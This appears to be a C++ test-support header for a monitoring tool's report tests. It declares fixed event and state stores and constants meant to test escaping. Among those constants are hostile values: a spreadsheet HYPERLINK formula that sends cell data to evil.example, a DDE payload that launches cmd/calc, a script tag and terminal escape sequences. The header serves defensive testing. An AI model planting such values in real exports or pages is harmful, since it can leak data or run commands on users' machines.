#pragma once

#include "report/report_model.hpp"
#include "report/report_renderer.hpp"
#include "store/event_store.hpp"
#include "support/test_support.hpp"

#include <cstdint>
#include <memory>
#include <string>

// A fixed store content for the report tests: a handful of directory changes and sign-ins across two organizations,
// two snapshots of two tenants' directories with risks, and values chosen to break careless escaping (quotes,
// commas, line breaks, formula prefixes, HTML, terminal escape sequences, non-Latin text).
namespace vigil::test::reports {

// Fixed "now" of the reports: 2026-11-20T12:00:00Z. Every event lies in the week before it.
inline constexpr int64_t kNowMs = 1'795'176'000'000;
inline constexpr int64_t kHourMs = 3'600'000;

// The hostile values, as stored.
inline constexpr const char* kFormulaWho = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
inline constexpr const char* kHtmlWhat = "<script>alert('x')</script> & \"quoted\", with comma";
inline constexpr const char* kMultiLine = "line one\nline two\r\nline three";
inline constexpr const char* kUnicode = "Zo\xC3\xAB \xC3\x85ngstr\xC3\xB6m \xE6\x97\xA5\xE6\x9C\xAC \xF0\x9F\x99\x82";
inline constexpr const char* kTerminalEscape =
    "\x1b[31mred\x1b[0m \xC2\x9B"
    "2J";
inline constexpr const char* kAtFormula = "@SUM(1+1)";
inline constexpr const char* kPlusFormula = "+cmd|' /C calc'!A0";

// Fills an event store with the fixed activity and logon events.
void fill_event_store(EventDatabase& store);

// Writes the state stores (two tenants, two snapshots each, risks in both) under data_dir.
void fill_state_stores(const std::string& data_dir);

// Both stores filled in a temporary folder, and the reports on them as `vigil report` makes them at kNowMs:
// activity and logons over the last 7 days, state at now with the changes of the last 24 hours, risks at now.
class FixedReports {
public:
    FixedReports();
    Report build(const std::string& kind, size_t row_limit = SIZE_MAX, const std::string& organization = "") const;
    std::string render(const std::string& kind, ReportFormat format, size_t row_limit = SIZE_MAX) const;
    // The folder holding both: events.db and state/, as a configuration's data_dir.
    std::string data_dir() const { return dir_.path().string(); }

private:
    test::TempDir dir_;
    std::unique_ptr<EventStore> store_;
};

}  // namespace vigil::test::reports
